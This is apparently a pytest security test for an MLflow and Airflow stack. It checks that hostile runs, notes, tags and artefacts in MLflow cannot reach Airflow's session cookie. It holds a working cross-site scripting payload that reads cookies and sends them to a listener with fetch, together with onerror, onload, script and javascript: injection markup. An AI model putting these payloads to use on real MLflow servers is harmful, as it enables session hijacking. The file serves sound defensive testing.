"""Attacker: whoever can write to the bucket, whose objects are sent to MLflow and shown there.

Aim: the session of Airflow. Servers of one host name share its cookies, whatever their ports.
"""

import os
import time
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
import requests
from fastapi import FastAPI, Request, Response
from fastapi.responses import HTMLResponse
from mlflow import MlflowClient

from include.stack.environment import mlflow_environment
from include.stack.ports import pick_port
from include.stack.settings import StackSettings
from include.stack.web_server import MlflowServer
from tests.support.web_pages import serving

ATTACK = """
(async () => {
  const tell = (by, what) => fetch('AIRFLOW/told?by=NAME-' + by + '&got=' +
    encodeURIComponent(what), {mode: 'no-cors', credentials: 'include'}).catch(() => 0);
  const attempt = async (by, what) => {
    try { await tell(by, await what()) } catch (error) { await tell(by, 'refused') }
  };
  await attempt('cookie', () => document.cookie);
  await attempt('parent', () => parent.document.cookie + parent.location.href);
  await attempt('top', () => top.document.cookie);
  await attempt('post', () => fetch('AIRFLOW/api', {
    method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'}).then(() => 'sent'));
  await attempt('form', () => new Promise((done) => {
    document.body.insertAdjacentHTML('beforeend', '<iframe name="t"></iframe>' +
      '<form id="f" method="post" action="AIRFLOW/api" target="t"></form>');
    document.getElementsByName('t')[0].onload = () => done('sent');
    document.getElementById('f').submit();
    setTimeout(() => done('no answer'), 3000);
  }));
  await attempt('opener', () => { window.open('AIRFLOW/api?window'); return 'sent' });
  await attempt('end', () => 'end');
})()
"""
# Short enough for every field of MLflow; the rest of the attack is fetched.
CALL = "import('{airflow}/attack.js?{name}')"
MARKUP = '<img src=x onerror="{0}"><svg onload="{0}"></svg><script type=module>{0}</script>'
# As the tracked runs have it: the other view shows no notes.
CLASSIC_VIEW = {"mlflow.experimentKind": "custom_model_development"}
FILES = ("page.html", "page.svg", "page.md", "page.js", "page.json", "page.txt", "page.geojson")


@dataclass
class Airflow:
    """A server with a session in a cookie, and what reached it."""

    told: dict[str, str] = field(default_factory=dict)
    with_session: list[str] = field(default_factory=list)
    address: str = ""


@pytest.fixture(scope="module")
def airflow():
    found, app = Airflow(), FastAPI()

    @app.get("/ui")
    def user_interface():
        page = HTMLResponse("<title>Airflow</title>")
        page.set_cookie("_token", "session", samesite="lax")  # as Airflow's simple login sets it
        return page

    @app.api_route("/api", methods=["GET", "POST"])
    def api(request: Request):
        if request.method == "POST" and "_token" in request.cookies:
            found.with_session.append(str(request.url))
        return {}

    @app.get("/attack.js")
    def attack(request: Request):
        script = ATTACK.replace("AIRFLOW", found.address).replace("NAME", request.url.query)
        headers = {"Access-Control-Allow-Origin": "*"}
        return Response(script, media_type="text/javascript", headers=headers)

    @app.get("/told")
    def told(by: str, got: str):
        found.told[by] = got

    with serving(app) as found.address:
        yield found


@pytest.fixture(scope="module")
def mlflow(tmp_path_factory):
    state_dir = tmp_path_factory.mktemp("mlflow")
    settings = StackSettings(root=state_dir, state_dir=state_dir, mlflow_port=pick_port())
    server = MlflowServer(state_dir, settings.mlflow_port, mlflow_environment(settings, os.environ))
    server.settings = settings
    server.start()
    yield server
    server.kill()


@pytest.fixture(scope="module")
def run(mlflow, airflow):
    """A run of which every file, name and note is hostile."""

    def attack(name):
        return CALL.format(airflow=airflow.address, name=name)

    def markup(name):
        return MARKUP.format(attack(name))

    client = MlflowClient(f"http://127.0.0.1:{mlflow.port}")
    experiment = client.create_experiment("hostile", tags=CLASSIC_VIEW)
    tags = {
        "mlflow.note.content": f"the note\n\n{markup('note')}\n\n[a](javascript:{attack('link')})"
    }
    made = client.create_run(experiment, run_name=markup("run"), tags=tags)
    client.log_param(made.info.run_id, "p", markup("param"))
    client.set_tag(made.info.run_id, "t", markup("tag"))
    for file in FILES:
        text = attack(file) if file.endswith("js") else f"<!DOCTYPE html>{markup(file)}"
        if file.endswith("svg"):
            text = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attack(file)}"></svg>'
        client.log_text(made.info.run_id, text, file)
    return made


@pytest.fixture
def logged_in(airflow, chromium):
    chromium.open(f"{airflow.address}/ui")
    airflow.told.clear()
    airflow.with_session.clear()
    return airflow


def await_end(airflow, chromium):
    """Wait until the attack has tried everything."""
    deadline = time.monotonic() + 120
    while not any(by.endswith("-end") for by in airflow.told):
        assert time.monotonic() < deadline, airflow
        chromium.page.wait_for_timeout(100)


def show(chromium, mlflow, run, page, shown):
    """Open a page of the run under the name that links have, and wait for what it shows."""
    host = urlsplit(mlflow.settings.mlflow_public_url).netloc
    experiment, run_id = run.info.experiment_id, run.info.run_id
    chromium.open(f"http://{host}/#/experiments/{experiment}/runs/{run_id}{page}")
    chromium.page.reload()
    chromium.page.get_by_text(shown).first.wait_for()


def test_no_page_of_mlflow_reaches_the_session_of_airflow(mlflow, run, logged_in, chromium):
    show(chromium, mlflow, run, "/artifacts/page.html", "Path:")
    await_end(logged_in, chromium)  # the script of an HTML artefact runs
    for page, shown in (
        ("", "the note"),
        ("/artifacts/page.md", "attack.js?page.md"),
        ("/artifacts/page.svg", "Path:"),
        ("/artifacts/page.json", "attack.js?page.json"),
    ):
        show(chromium, mlflow, run, page, shown)

    assert {by.partition("-")[0] for by in logged_in.told} == {"page.html"}
    assert "session" not in "".join(logged_in.told.values())
    assert logged_in.with_session == []


def test_a_script_in_mlflow_itself_would_not_have_it_either(mlflow, run, logged_in, chromium):
    show(chromium, mlflow, run, "", "Overview")
    cookies = chromium.run("document.cookie")
    chromium.run(f"import('{logged_in.address}/attack.js?itself').then(() => 0)")
    await_end(logged_in, chromium)

    assert "_token" not in cookies
    assert (logged_in.told["itself-cookie"], logged_in.with_session) == ("", [])


@pytest.mark.parametrize("file", FILES)
def test_an_artefact_opened_by_itself_is_a_download(mlflow, run, file):
    address = f"http://127.0.0.1:{mlflow.port}/get-artifact"
    asked = {"run_uuid": run.info.run_id, "path": file}
    answer = requests.get(address, params=asked, timeout=60)

    assert answer.headers["Content-Disposition"].startswith("attachment")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
